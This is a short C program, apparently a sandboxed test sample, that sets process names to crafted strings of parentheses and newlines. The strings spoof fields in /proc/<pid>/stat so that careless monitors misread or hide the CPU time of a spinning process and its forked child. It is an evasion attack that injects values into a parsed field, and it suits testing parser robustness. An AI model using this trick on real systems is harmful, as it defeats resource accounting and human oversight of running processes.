// hide its CPU time from a careless parser of procfs behind a name full of brackets and newlines
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define GUARD if (!getenv("ATTACK_IN_SANDBOX")) return 1

int main(void) {
    GUARD;
    prctl(PR_SET_NAME, ") Z 1 1\n0 0 0 (", 0, 0, 0);
    if (fork() == 0) prctl(PR_SET_NAME, "\n) S 0 0 0 0 0", 0, 0, 0);
    for (;;) {}
}
